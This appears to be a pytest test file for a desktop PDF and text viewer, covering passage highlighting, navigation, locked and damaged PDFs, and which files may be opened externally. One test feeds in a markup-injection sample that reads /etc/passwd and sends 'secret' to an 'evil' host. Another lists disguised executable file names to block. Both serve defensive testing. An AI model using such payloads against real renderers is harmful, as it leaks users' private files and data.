"""The viewer stands on the page with the passage lit, whatever has become of the file."""

import os
from dataclasses import replace
from pathlib import Path

import pytest
from PySide6.QtCore import QPointF, QRectF, Qt
from PySide6.QtGui import QColor, QImage
from PySide6.QtTest import QSignalSpy
from pytestqt.qtbot import QtBot

from app import links, theme
from app.controllers.viewing import state_of
from app.viewing import Mark, Piece, Shown
from app.widgets.pdf_pane import PdfPane
from app.widgets.viewer import Viewer
from backends.documents.types import Section, StoredSection
from tests.kit import libraries, looks, printed

TEXT = libraries.TEXT_EN
LONG = 20_000


@pytest.fixture
def viewer(qtbot: QtBot) -> Viewer:
    viewer = Viewer()
    qtbot.addWidget(viewer)
    viewer.resize(900, 700)
    viewer.show()
    return viewer


@pytest.fixture(scope="module")
def handbook(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return printed.write(tmp_path_factory.mktemp("pdf") / "handbook.pdf", printed.handbook(zh=False, passage=TEXT))


def shown(path: Path, **fields: object) -> Shown:
    document = libraries.document(3, path.name, "pdf", path=str(path), pages=3)
    marks = (Mark(1_000, 1_000 + len(TEXT), 2, "", TEXT), Mark(2_000, 2_050, 3, "", printed.LAST))
    return replace(Shown(document, marks=marks), **fields)


def pages(viewer: Viewer) -> PdfPane:
    assert viewer.pdf is not None
    return viewer.pdf


def ink(image: QImage, left: int, top: int, width: int, height: int) -> int:
    """Dark pixels there."""
    return sum(
        QColor(image.pixel(x, y)).lightness() < 110
        for x in range(max(0, left), min(image.width(), left + width))
        for y in range(max(0, top), min(image.height(), top + height))
    )


def test_it_stands_on_the_page_with_the_passage_lit(viewer: Viewer, qtbot: QtBot, handbook: Path) -> None:
    """What is lit is where the letters are: each lit line has ink in it, what is above and left of it has none."""
    viewer.show_document(shown(handbook))
    pane = pages(viewer)
    assert pane.page == 2
    assert pane.pages == 3
    (page,) = pane.boxes
    assert page == 1
    boxes = pane.boxes[1]
    assert 3 <= len(boxes) <= 5
    said = pane.document().getSelection(1, QPointF(boxes[0].topLeft()), QPointF(boxes[-1].bottomRight())).text()
    assert "A heat pump moves heat" in said
    assert "it falls to 2.9" in said.replace("\r\n", " ")

    def drawn() -> bool:
        return ink(pane.viewport().grab().toImage(), *rect(boxes[0])) > 20

    def rect(box: QRectF) -> tuple[int, int, int, int]:
        at = pane.on_view(1, box)
        left, top = pane.horizontalScrollBar().value(), pane.verticalScrollBar().value()
        return round(at.left()) - left, round(at.top()) - top, round(at.width()), round(at.height())

    qtbot.waitUntil(drawn, timeout=LONG)
    image = pane.viewport().grab().toImage()
    for box in boxes:
        left, top, width, height = rect(box)
        assert 0 <= top < pane.viewport().height() - height, "it is in sight"
        inside = ink(image, left, top, width, height)
        assert inside > 20
        assert 10 * ink(image, left, top - 4, width, 2) < inside, "but for the tails of letters above"
        assert ink(image, left - 8, top, 6, height) == 0
        assert QColor(image.pixel(left + 1, top - 1)) == QColor(theme.LIGHT.lit)
    assert "Passage 1 of 2" in looks.texts(viewer)


def test_the_next_passage_of_the_same_document(viewer: Viewer, qtbot: QtBot, handbook: Path) -> None:
    viewer.show_document(shown(handbook))
    qtbot.keyClick(viewer, Qt.Key.Key_F3)
    assert pages(viewer).page == 3
    assert list(pages(viewer).boxes) == [2]
    assert not looks.button(viewer, "Next passage").isEnabled()
    looks.button(viewer, "Passage before").click()
    assert list(pages(viewer).boxes) == [1]


def test_larger_smaller_and_another_page(viewer: Viewer, handbook: Path) -> None:
    viewer.show_document(shown(handbook))
    pane = pages(viewer)
    before = pane.zoom
    looks.button(viewer, "Larger").click()
    assert pane.zoom > before
    assert pane.page == 2
    looks.button(viewer, "Next page").click()
    assert pane.page == 3
    looks.button(viewer, "As wide as the window").click()
    assert pane.page == 3
    viewer.resize(700, 600)
    looks.settle()
    assert pane.horizontalScrollBar().maximum() == 0


def test_a_passage_that_is_not_on_its_page_is_said(viewer: Viewer, handbook: Path) -> None:
    wanted = QSignalSpy(viewer.piece_wanted)
    viewer.show_document(shown(handbook, marks=(Mark(7, 50, 1, "", "Zebras live in herds and nobody keeps them."),)))
    assert "cannot be marked on this page" in looks.texts(viewer)
    assert pages(viewer).boxes == {}
    looks.button(viewer, "Show the text").click()
    assert wanted.at(0)[1] == 7
    viewer.show_piece(Piece(0, 90, 90, (StoredSection(3, 0, 0, 90, Section("Some. Zebras live in herds. " * 3)),)))
    assert viewer.pdf is None
    assert "ebras live" in viewer.text.lit
    viewer.bar._text.click()
    assert viewer.pdf is not None


def test_a_locked_pdf_takes_its_password(viewer: Viewer, qtbot: QtBot, tmp_path: Path) -> None:
    path = printed.write(tmp_path / "locked.pdf", printed.handbook(zh=False, passage=TEXT), password="1234")
    viewer.show_document(shown(path))
    assert viewer.pdf is None
    assert viewer.password.isVisible()
    qtbot.keyClicks(viewer.password, "wrong")
    qtbot.keyClick(viewer.password, Qt.Key.Key_Return)
    assert "That is not the password" in looks.texts(viewer)
    qtbot.keyClicks(viewer.password, "1234")
    looks.button(viewer, "Unlock").click()
    assert list(pages(viewer).boxes) == [1]


@pytest.mark.parametrize("damage", [b"", b"%PDF-1.7\nnothing of a PDF", b"\x00" * 4_000])
def test_a_pdf_that_cannot_be_shown_is_shown_as_text(viewer: Viewer, tmp_path: Path, damage: bytes) -> None:
    path = tmp_path / "broken.pdf"
    path.write_bytes(damage)
    wanted = QSignalSpy(viewer.piece_wanted)
    viewer.show_document(shown(path))
    assert wanted.count() == 1
    assert "The pages cannot be shown." in looks.texts(viewer)


def test_a_file_that_is_gone_or_changed_is_said(viewer: Viewer, handbook: Path, tmp_path: Path) -> None:
    retried = QSignalSpy(viewer.retry_requested)
    viewer.show_document(shown(handbook, file="changed"))
    assert "has changed since it was read" in looks.texts(viewer)
    looks.button(viewer, "Read again").click()
    assert retried.at(0) == [3]
    text = (StoredSection(3, 0, 900, 900 + 200, Section("x" * 100 + TEXT[:100])),)
    viewer.show_document(
        shown(tmp_path / "gone.pdf", file="gone", marks=(Mark(1_000, 1_100, 2),), piece=Piece(900, 1_100, 5_000, text))
    )
    assert "The file is no longer there." in looks.texts(viewer)
    assert viewer.text.lit == TEXT[:100]
    assert "Open in its own program" not in looks.names(viewer)


def test_the_state_of_a_file(handbook: Path, tmp_path: Path) -> None:
    import hashlib

    path = tmp_path / "a.pdf"
    path.write_bytes(handbook.read_bytes())
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    found = path.stat()
    document = libraries.document(
        1, "a.pdf", "pdf", path=str(path), size=found.st_size, modified=found.st_mtime, digest=digest
    )
    assert state_of(document) == "there"
    os.utime(path, (1, 1))
    assert state_of(document) == "there", "the same bytes at another time"
    path.write_bytes(b"X" * found.st_size)
    os.utime(path, (1, 1))
    assert state_of(document) == "changed"
    path.unlink()
    assert state_of(document) == "gone"
    assert state_of(replace(document, path="")) == "none"


# ---- text


def long_text(first: int, count: int, length: int = 1_000) -> tuple[StoredSection, ...]:
    return tuple(
        StoredSection(8, n, n * length, (n + 1) * length, Section(f"{n:04} ".ljust(length - 1, "𝔘") + "\n", page=n + 1))
        for n in range(first, first + count)
    )


def test_only_the_text_around_the_passage_is_loaded_and_more_comes_where_one_reads(viewer: Viewer) -> None:
    document = replace(libraries.documents("en")[7], characters=1_000_000)
    mark = Mark(500_000, 500_004, 501, "", "0500")
    piece = Piece(460_000, 540_000, 1_000_000, long_text(460, 80))
    viewer.show_document(Shown(document, marks=(mark,), piece=piece))
    assert viewer.text.lit == "0500"
    assert viewer.text.viewport().rect().contains(viewer.text.cursorRect().center()), "it is in sight"
    wanted = QSignalSpy(viewer.piece_wanted)
    bar = viewer.text.verticalScrollBar()
    bar.setValue(bar.maximum())
    assert wanted.at(0)[1] == 540_000
    bar.setValue(bar.maximum() - 1)
    assert wanted.count() == 1, "it is on its way"
    at_top = viewer.text.page
    viewer.show_piece(Piece(500_000, 580_000, 1_000_000, long_text(500, 80)))
    assert abs(viewer.text.page - at_top) <= 1, "what is read stays where it is"
    assert 100 < bar.value() < bar.maximum()


def test_nothing_of_a_text_is_read_as_markup(viewer: Viewer) -> None:
    evil = "<img src='file:///etc/passwd'><b>bold</b> ![x](http://evil/?q=secret)"
    piece = Piece(0, len(evil), len(evil), (StoredSection(1, 0, 0, len(evil), Section(evil)),))
    viewer.show_document(Shown(replace(libraries.documents("en")[12], title=evil), piece=piece))
    assert viewer.text.toPlainText() == evil
    assert looks.rich(viewer) == []


def test_a_passage_is_copied_with_its_source(viewer: Viewer, handbook: Path) -> None:
    copied = QSignalSpy(viewer.copy_requested)
    viewer.show_document(shown(handbook))
    looks.button(viewer, "Copy the passage with its source").click()
    assert copied.at(0) == [f"“{TEXT}” — handbook.pdf, p. 2"]


# ---- what may be opened outside


@pytest.mark.parametrize(
    ("name", "may"),
    [
        ("a.pdf", True),
        ("报告.docx", True),
        ("A.PDF", True),
        ("notes.txt", True),
        ("run.sh", False),
        ("run.py", False),
        ("setup.exe", False),
        ("macro.docm", False),
        ("app.desktop", False),
        ("page.hta", False),
        ("a.pdf.lnk", False),
        ("a.pdf ", False),
        ("a.pdf.", False),
        ("noname", False),
    ],
)
def test_only_documents_are_opened_outside(tmp_path: Path, name: str, may: bool) -> None:
    path = tmp_path / name
    path.write_bytes(b"x")
    path.chmod(0o755)
    assert links.may_open(path) is may


def test_a_link_is_what_it_leads_to(tmp_path: Path) -> None:
    script = tmp_path / "run.sh"
    script.write_text("#!/bin/sh")
    (tmp_path / "innocent.pdf").symlink_to(script)
    assert not links.may_open(tmp_path / "innocent.pdf")
    assert not links.may_open(tmp_path / "gone.pdf")
    assert not links.may_open(tmp_path)
    assert links.may_show(tmp_path)
    (tmp_path / "Evil.app").mkdir()
    assert not links.may_show(tmp_path / "Evil.app")
